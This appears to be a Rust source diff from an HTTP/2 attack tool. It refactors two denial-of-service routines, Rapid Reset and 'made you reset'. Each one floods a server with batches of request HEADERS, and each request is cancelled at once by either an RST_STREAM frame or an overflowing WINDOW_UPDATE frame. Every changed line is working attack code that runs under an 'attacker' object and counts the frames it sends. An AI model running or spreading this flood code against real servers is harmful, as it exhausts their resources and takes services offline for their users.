@@ -16,24 +16,30 @@ pub(in super::super) async fn rapid_reset(
     attacker: Arc<Attacker>,
     wire: Wire,
 ) -> std::io::Result<()> {
-    let mut write = wire.drained();
-    let call = request(GET);
-    let mut streams = streams();
-    while !attacker.is_over() {
-        let mut batch = Vec::new();
-        for stream in streams.by_ref().take(BATCH as usize) {
-            push(&mut batch, HEADERS, END_HEADERS, stream, &call);
-            push(&mut batch, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
-        }
-        write.write_all(&batch).await?;
-        attacker.count(2 * BATCH);
-    }
-    Ok(())
+    let cancel = 8_u32.to_be_bytes();
+    abandoned(attacker, wire, |to, stream| {
+        push(to, RST_STREAM, 0, stream, &cancel);
+    })
+    .await
 }
 
 pub(in super::super) async fn made_you_reset(
     attacker: Arc<Attacker>,
     wire: Wire,
+) -> std::io::Result<()> {
+    // More room than there can be: an error of the stream.
+    let most = LAST.to_be_bytes();
+    abandoned(attacker, wire, |to, stream| {
+        push(to, WINDOW_UPDATE, 0, stream, &most);
+    })
+    .await
+}
+
+/// Calls, each with a frame right after it that ends it.
+async fn abandoned(
+    attacker: Arc<Attacker>,
+    wire: Wire,
+    end: impl Fn(&mut Vec<u8>, u32),
 ) -> std::io::Result<()> {
     let mut write = wire.drained();
     let call = request(GET);
@@ -42,9 +48,7 @@ pub(in super::super) async fn made_you_reset(
         let mut batch = Vec::new();
         for stream in streams.by_ref().take(BATCH as usize) {
             push(&mut batch, HEADERS, END_HEADERS, stream, &call);
-            // More room than there can be: an error of the stream.
-            let most = LAST.to_be_bytes();
-            push(&mut batch, WINDOW_UPDATE, 0, stream, &most);
+            end(&mut batch, stream);
         }
         write.write_all(&batch).await?;
         attacker.count(2 * BATCH);
